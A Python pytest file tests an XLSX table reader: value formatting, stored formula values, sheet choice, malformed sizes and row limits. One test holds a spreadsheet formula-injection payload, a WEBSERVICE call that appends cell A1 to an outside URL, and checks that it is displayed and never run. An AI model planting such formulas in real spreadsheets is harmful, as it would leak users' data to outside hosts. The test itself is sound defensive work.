"""The promises about XLSX: values as people see them, formulas never run, sheets chosen."""

import re
from datetime import date, datetime, time, timedelta
from typing import Any

import pytest

from app.tables import read_table
from app.tables.shown import shown
from hearthside.documents.tables import MAX_ROWS
from hearthside.wire import Code
from tests.unit.tables.files import changed, refusal, workbook

SHEET = "xl/worksheets/sheet1.xml"


def test_a_workbook_is_a_table() -> None:
    content = workbook({"Data": [["id", "text", "n"], [1, "two\nlines", None], [2, "b", 0.5]]})
    table = read_table("rows.xlsx", content)
    assert table.columns == ("id", "text", "n")
    assert table.rows == (("1", "two\nlines", ""), ("2", "b", "0.5"))
    assert (table.sheet, table.sheets) == ("Data", ("Data",))
    assert read_table("wrong-name.csv", content) == table.__class__(
        "wrong-name.csv", *[getattr(table, it) for it in table.__slots__[1:]]
    )


@pytest.mark.parametrize(
    ("value", "number_format", "text"),
    [
        (7, "General", "7"),
        (0.1 + 0.2, "General", "0.3"),
        (1234567890123, "General", "1234567890123"),
        (1e20, "General", "1E+20"),
        (1234.5, "#,##0.00", "1,234.50"),
        (-1234.5, "#,##0.00;(#,##0.00)", "(1,234.50)"),
        (-3, "0.0", "-3.0"),
        (0.256, "0%", "26%"),
        (0.256, "0.0%", "25.6%"),
        (42, "00000", "00042"),
        (5, '"No. "0', "No. 5"),
        (9.5, "[$\u20ac-407] #,##0.00", "\u20ac 9.50"),
        (9.5, "$#,##0.00_);[Red]($#,##0.00)", "$9.50"),
        (1.5, "0.0#", "1.5"),
        (1_500_000, '0.0,,"M"', "1.5M"),
        (0.5, "# ?/?", "0.5"),
        (0, '0;-0;"none"', "0"),
        (True, "General", "TRUE"),
        (None, "General", ""),
        ("007", "@", "007"),
        ("a_x000D_\nb", "@", "a\n\nb"),
        (datetime(2026, 11, 22), "mm-dd-yy", "2026-11-22"),
        (datetime(2026, 11, 22, 14, 30), "General", "2026-11-22 14:30"),
        (datetime(2026, 11, 22), "d/m/yy h:mm", "2026-11-22 00:00"),
        (datetime(2026, 11, 22, 14, 29, 59, 999_800), "h:mm", "2026-11-22 14:30"),
        (date(2026, 11, 22), "General", "2026-11-22"),
        (time(9, 5), "General", "09:05"),
        (time(9, 5, 7), "General", "09:05:07"),
        (timedelta(hours=26, minutes=5), "[h]:mm", "26:05:00"),
        (-timedelta(minutes=90), "[h]:mm", "-1:30:00"),
    ],
)
def test_values_are_shown_as_people_see_them(value: Any, number_format: str, text: str) -> None:
    assert shown(value, number_format) == text


def test_dates_numbers_and_errors_come_through_a_file() -> None:
    rows = [["when", "share", "text"], [date(2026, 11, 22), 0.25, "#N/A"]]
    table = read_table("a.xlsx", workbook({"S": rows}, {"B2": "0%"}))
    assert table.rows == (("2026-11-22", "25%", "#N/A"),)


def stored(content: bytes) -> bytes:
    """Gives the formula of C2 the stored value 7, as a spreadsheet program does."""
    return re.sub(rb"(<f>[^<]*</f>)<v\s*/>", rb"\1<v>7</v>", content, count=1)


def test_a_formulas_stored_value_is_taken() -> None:
    content = workbook({"S": [["text", "a", "sum"], ["x", 1, "=B2+1"], ["y", 2, "=B3+1"]]})
    table = read_table("a.xlsx", changed(content, SHEET, stored))
    assert table.rows == (("x", "1", "7"), ("y", "2", "=B3+1"))
    assert "C3" in table.notes[0]
    assert "never run" in table.notes[0]


def test_a_stored_empty_text_is_empty() -> None:
    content = workbook({"S": [["text", "note"], ["x", '=IF(1,"","")']]})
    empty = changed(
        content, SHEET, lambda it: re.sub(rb'<c r="B2"( t="\w+")?>', b'<c r="B2" t="str">', it)
    )
    table = read_table("a.xlsx", empty)
    assert table.rows == (("x", ""),)
    assert not any("formula" in note for note in table.notes)


def test_a_formula_of_a_stranger_is_shown_and_not_run() -> None:
    attack = '=WEBSERVICE("http://www.w3.org/?"&A1)'
    table = read_table("a.xlsx", workbook({"S": [["text", "n"], [attack, 1]]}))
    assert table.rows == ((attack, "1"),)


def test_the_first_sheet_with_rows_is_read_and_said_and_another_can_be_asked_for() -> None:
    sheets = {"Cover": [], "May": [["text"], ["a"]], "June": [["text"], ["b"]]}
    content = workbook(sheets)
    table = read_table("a.xlsx", content)
    assert (table.sheet, table.rows) == ("May", (("a",),))
    assert table.sheets == ("Cover", "May", "June")
    assert "3 sheets; \u201cMay\u201d was read" in table.notes[0]
    june = read_table("a.xlsx", content, sheet="June")
    assert june.rows == (("b",),)
    assert not any("sheets" in note for note in june.notes)
    assert "no sheet called \u201cJuly\u201d" in refusal("a.xlsx", content, sheet="July")
    assert "no rows" in refusal("a.xlsx", content, sheet="Cover")


def test_titles_gaps_and_empty_columns_are_met() -> None:
    rows = [["Tickets of May"], [], ["id", "text", None, None], [1, "a"], [], [2, "b", "late"]]
    table = read_table("a.xlsx", workbook({"S": rows}))
    assert table.columns == ("id", "text", "Column 3")
    assert table.rows == (("1", "a", ""), ("2", "b", "late"))
    assert "taken from row 3" in " ".join(table.notes)


def test_a_claimed_size_is_not_believed() -> None:
    content = workbook({"S": [["id", "text"], [1, "a"], [2, "b"]]})
    lying = changed(content, SHEET, lambda it: it.replace(b'ref="A1:B3"', b'ref="A1"'))
    assert len(read_table("a.xlsx", lying).rows) == 2


def test_a_row_number_that_no_sheet_has_keeps_nobody_busy() -> None:
    content = workbook({"S": [["id", "text"], [1, "a"], [2, "b"]]})
    far = changed(content, SHEET, lambda it: it.replace(b'<row r="3"', b'<row r="999999999999"'))
    assert read_table("a.xlsx", far).rows == (("1", "a"),)


@pytest.mark.portable
@pytest.mark.parametrize("most", [500, pytest.param(MAX_ROWS, marks=pytest.mark.whole)])
def test_too_many_rows_are_refused(most: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("app.tables.workbook.MAX_ROWS", most)
    monkeypatch.setattr("hearthside.documents.tables.shape.MAX_ROWS", most)
    rows = [["text"], *[["a"]] * most]
    assert len(read_table("a.xlsx", workbook({"S": rows})).rows) == most
    rows.append(["a"])
    assert f"{MAX_ROWS:,} rows" in refusal("a.xlsx", workbook({"S": rows}), Code.TABLE_LARGE)
